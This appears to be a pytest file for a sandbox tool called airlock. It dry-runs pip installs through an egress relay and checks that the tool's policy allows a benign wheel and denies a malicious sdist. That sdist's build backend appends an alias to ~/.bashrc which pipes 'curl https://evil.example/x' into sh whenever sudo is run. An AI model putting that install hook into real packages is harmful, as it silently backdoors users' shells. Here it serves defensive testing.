"""A real ``pip install`` dry run through the egress relay, from a local package index.

pypiserver (in the dev lock) serves two packages over HTTPS from the egress lab's namespace
(tests/helpers/egress.py) as ``pypi.test:8443``; the daemon's policy is the shipped default plus
a grant of that name (with the lab's /30 as a CIDR grant), and ``--test-resolve`` points the
name at the lab. ``airlock-demo-hello`` is a wheel; ``airlock-demo-evil`` is an sdist whose
in-tree build backend (what pip runs to build it) appends to ``~/.bashrc``. Both dry runs
really download and build; the first is allowed and shows the files pip installed, the
second is denied by the shipped policy for the shell start-up file, and the host is
byte-identical afterwards.
"""

from __future__ import annotations

import base64
import hashlib
import io
import os
import shutil
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from airlock.client import Client
from airlock.policy.store import default_policy_dir
from airlock.types import NetProtocol, Verdict
from tests.helpers import TEST_LIMITS, public_dir, running_daemon
from tests.helpers.egress import Lab, egress_lab, package_index

GRANT = """\
version: 1
egress:
  dry_run:
    allow:
      - {{name: index, hosts: [pypi.test], ports: [8443], cidrs: [{cidr}]}}
"""

WHEEL = "Wheel-Version: 1.0\nGenerator: airlock-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def wheel_bytes(name: str, version: str, files: dict[str, str]) -> tuple[str, bytes]:
    """(file name, bytes) of a pure-Python wheel holding ``files``."""
    dist = name.replace("-", "_")
    info = f"{dist}-{version}.dist-info"
    entries = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": WHEEL,
    }
    record = []
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for path, text in entries.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{path},sha256={digest.decode()},{len(data)}")
            z.writestr(path, data)
        z.writestr(f"{info}/RECORD", "\n".join([*record, f"{info}/RECORD,,"]) + "\n")
    return f"{dist}-{version}-py3-none-any.whl", buf.getvalue()


# The build backend of the evil sdist: building the wheel (which `pip install` does) writes
# to the caller's shell start-up file. No build requirements, so pip downloads nothing else.
BACKEND = r"""
import base64, hashlib, io, os, zipfile

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\nalias sudo='curl -s https://evil.example/x | sh; sudo'\n")
    WHEEL_FILES
    name = "airlock_demo_evil-1.0-py3-none-any.whl"
    with open(os.path.join(wheel_directory, name), "wb") as f:
        f.write(base64.b64decode(WHEEL_B64))
    return name
"""


def evil_sdist() -> tuple[str, bytes]:
    _name, whl = wheel_bytes("airlock-demo-evil", "1.0", {"evil/__init__.py": "X = 1\n"})
    backend = BACKEND.replace("WHEEL_FILES", "").replace(
        "WHEEL_B64", repr(base64.b64encode(whl).decode())
    )
    top = "airlock_demo_evil-1.0"
    members = {
        f"{top}/PKG-INFO": "Metadata-Version: 2.1\nName: airlock-demo-evil\nVersion: 1.0\n",
        f"{top}/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        ),
        f"{top}/backend.py": backend,
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return f"{top}.tar.gz", buf.getvalue()


@dataclass
class Env:
    lab: Lab
    client: Client


@pytest.fixture(scope="module")
def env() -> Iterator[Env]:
    with public_dir() as base, egress_lab(base, names=("pypi.test",)) as lab:
        packages = base / "packages"
        packages.mkdir()
        for name, data in (
            wheel_bytes("airlock-demo-hello", "1.0", {"hello/__init__.py": "GREETING = 'hi'\n"}),
            evil_sdist(),
        ):
            (packages / name).write_bytes(data)
        policy = base / "policy"
        shutil.copytree(default_policy_dir(), policy / "default")
        (policy / "index.yaml").write_text(GRANT.format(cidr=lab.cidr))
        with (
            package_index(lab, packages),
            running_daemon(
                base / "d", *TEST_LIMITS, "--policy-dir", str(policy), *lab.resolve_args()
            ) as d,
            d.client() as client,
        ):
            yield Env(lab, client)


def pip_install(env: Env, package: str) -> str:
    return (
        f"{sys.executable} -m pip --disable-pip-version-check install --no-cache-dir "
        f"--cert {env.lab.ca} --index-url https://pypi.test:8443/simple/ --target site {package}"
    )


# pip reads no configuration file of this machine (its index and find-links would join ours).
PIP_ENV = {"PIP_CONFIG_FILE": os.devnull}


def snapshot(path: Path) -> bytes | None:
    return path.read_bytes() if path.exists() else None


def test_pip_install_from_a_granted_index_completes_and_shows_the_installed_files(
    env: Env, workspace: Path
) -> None:
    v = env.client.validate(
        pip_install(env, "airlock-demo-hello"), cwd=str(workspace), env=PIP_ENV, timeout=60
    )
    assert v.exit_code == 0, v.stderr.decode(errors="replace")
    assert b"Successfully installed airlock-demo-hello-1.0" in v.stdout
    created = {os.fsdecode(c.path).removeprefix(str(workspace) + "/") for c in v.changes}
    assert {"site/hello/__init__.py", "site/airlock_demo_hello-1.0.dist-info/METADATA"} <= created
    assert all(c.in_workspace for c in v.changes), [c.path for c in v.changes]
    tcp = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert tcp and all(
        (a.dns_name, a.forwarded, a.grant) == ("pypi.test", True, "index") for a in tcp
    )
    assert all(a.refusal == "" for a in v.network_attempts), v.network_attempts
    assert "Downloaded" in v.summary and "from pypi.test" in v.summary
    assert v.verdict is Verdict.ALLOW, v.findings
    assert not (workspace / "site").exists()  # a dry run: nothing on the host


def test_a_package_whose_build_writes_bashrc_is_denied_and_the_host_is_untouched(
    env: Env, workspace: Path
) -> None:
    bashrc = Path(os.path.expanduser("~")) / ".bashrc"
    before = snapshot(bashrc)
    v = env.client.validate(
        pip_install(env, "airlock-demo-evil"), cwd=str(workspace), env=PIP_ENV, timeout=60
    )
    assert v.exit_code == 0, v.stderr.decode(errors="replace")
    assert b"Successfully installed airlock-demo-evil-1.0" in v.stdout
    changed = {os.fsdecode(c.path) for c in v.changes}
    assert str(bashrc) in changed and f"{workspace}/site/evil/__init__.py" in changed
    assert v.verdict is Verdict.DENY
    top = v.findings[0]
    assert top.rule_id == "effect.shell-startup-write" and str(bashrc) in top.message
    assert "Policy denies: Changes a shell start-up file" in v.summary
    assert all(a.forwarded for a in v.network_attempts if a.protocol is NetProtocol.TCP)
    assert snapshot(bashrc) == before  # byte-identical
    assert not (workspace / "site").exists()
